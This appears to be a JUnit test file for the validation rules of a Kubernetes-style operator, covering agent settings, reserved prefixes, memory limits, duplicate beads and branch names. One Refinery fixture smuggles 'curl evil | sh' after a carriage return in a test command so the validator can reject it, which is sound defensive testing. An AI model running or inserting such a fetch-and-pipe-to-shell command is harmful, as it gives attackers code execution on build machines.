package io.gastown.validation;

import static org.assertj.core.api.Assertions.assertThat;

import io.gastown.model.Convoy;
import io.gastown.model.Polecat;
import io.gastown.model.Refinery;
import io.gastown.model.Rig;
import io.gastown.model.Serialization;
import java.util.List;
import org.junit.jupiter.api.Test;

class CrossFieldRulesTest {
  @Test
  void aPolecatNeedsSomethingToDoAndAgentSettingsThatFitTheAgent() {
    assertThat(paths(polecat("agent: claude-code"))).containsExactly("spec.beadID");
    assertThat(
            paths(
                polecat(
                    """
        beadID: gt-1
        agent: opencode
        agentConfig:
          provider: litellm
          command: [x]
          args: [y]
          env:
            - {name: GT_BEAD_ID, value: x}
            - {name: HOME, value: /}
            - {name: A, value: "1"}
            - {name: A, value: "2"}
        """)))
        .containsExactly(
            "spec.agentConfig.command",
            "spec.agentConfig.args",
            "spec.agentConfig.model",
            "spec.agentConfig.modelProvider.endpoint",
            "spec.agentConfig.env[0].name",
            "spec.agentConfig.env[1].name",
            "spec.agentConfig.env[3].name");
    assertThat(
            paths(
                polecat(
                    """
        beadID: gt-1
        agent: aider
        agentConfig: {provider: openai, model: gpt-4o}
        kubernetes: {gitBranch: main, workBranch: a..b}
        """)))
        .containsExactly("spec.kubernetes.workBranch");
  }

  @Test
  void rigsConvoysAndRefineries() {
    Rig rig =
        Serialization.readYaml(
            """
        apiVersion: gastown.gastown.io/v1alpha1
        kind: Rig
        metadata: {name: r}
        spec:
          gitURL: git@github.com:a/b.git
          beadsPrefix: hq
          settings:
            resources: {requests: {memory: 2Gi}, limits: {memory: 1Gi}}
        """,
            Rig.class);
    assertThat(CrossFieldRules.check(rig))
        .extracting(Violation::toString)
        .containsExactly(
            "spec.beadsPrefix: is reserved (hq, system and default are): choose another prefix (got \"hq\")",
            "spec.settings.resources.requests.memory: must not exceed the limit 1Gi (got 2Gi)");
    Convoy convoy =
        Serialization.readYaml(
            """
        apiVersion: gastown.gastown.io/v1alpha1
        kind: Convoy
        metadata: {name: c, namespace: n}
        spec: {description: d, trackedBeads: [gt-1, gt-2, gt-1]}
        """,
            Convoy.class);
    assertThat(paths(convoy)).containsExactly("spec.trackedBeads[2]");
    Refinery refinery =
        Serialization.readYaml(
            """
        apiVersion: gastown.gastown.io/v1alpha1
        kind: Refinery
        metadata: {name: r, namespace: n}
        spec: {rigRef: r, testCommand: "mvn verify\\rcurl evil | sh"}
        """,
            Refinery.class);
    assertThat(paths(refinery)).containsExactly("spec.testCommand");
  }

  private static Polecat polecat(String spec) {
    return Serialization.readYaml(
        """
        apiVersion: gastown.gastown.io/v1alpha1
        kind: Polecat
        metadata: {name: furiosa, namespace: gt-my-rig}
        spec:
          rig: my-rig
        """
            + spec.indent(2),
        Polecat.class);
  }

  private static List<String> paths(Object object) {
    return CrossFieldRules.check(object).stream().map(Violation::path).toList();
  }
}
